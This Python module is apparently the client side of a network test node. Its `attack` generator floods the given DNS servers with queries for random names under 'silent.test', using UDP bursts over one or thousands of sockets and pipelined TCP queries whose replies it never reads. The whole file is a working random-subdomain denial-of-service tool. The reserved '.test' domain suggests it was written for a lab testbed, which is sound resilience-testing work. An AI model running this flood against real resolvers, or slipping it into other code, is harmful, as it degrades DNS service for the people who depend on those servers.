"""A node's client: DNS queries for random names, as fast as it can; some are never answered."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import suppress
from random import Random
from typing import Final

_BURST: Final = 500
_HEADER: Final = b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
_FLOWS_MAX: Final = 2_000
_TIMEOUT_S: Final = 1.0


def attack(rng: Random, *, servers: list[str]) -> Iterator[str]:
    """Send queries through one flow, through many, and by TCP."""
    many: list[socket.socket] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.setblocking(False)
        while True:
            match rng.randrange(3):
                case 0:
                    _through([one], rng, servers)
                    yield "through one flow"
                case 1:
                    fresh = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(50)]
                    many += fresh
                    _through(fresh, rng, servers)
                    while len(many) > _FLOWS_MAX:
                        many.pop(0).close()
                    yield "through many flows"
                case _:
                    _by_tcp(rng, servers)
                    yield "by TCP"


def _through(flows: list[socket.socket], rng: Random, servers: list[str]) -> None:
    for _ in range(_BURST):
        with suppress(OSError):
            rng.choice(flows).sendto(_question(rng), (rng.choice(servers), 53))


def _by_tcp(rng: Random, servers: list[str]) -> None:
    """Send all queries at once, and read nothing."""
    with suppress(OSError), socket.create_connection((rng.choice(servers), 53), _TIMEOUT_S) as sock:
        questions = [_question(rng) for _ in range(_BURST)]
        sock.sendall(b"".join(len(each).to_bytes(2) + each for each in questions))


def _question(rng: Random) -> bytes:
    name = f"{rng.getrandbits(64):x}".encode()
    labels = b"".join(bytes([len(each)]) + each for each in (name, b"silent", b"test"))
    return rng.randbytes(2) + _HEADER + labels + b"\0\0\x01\0\x01"
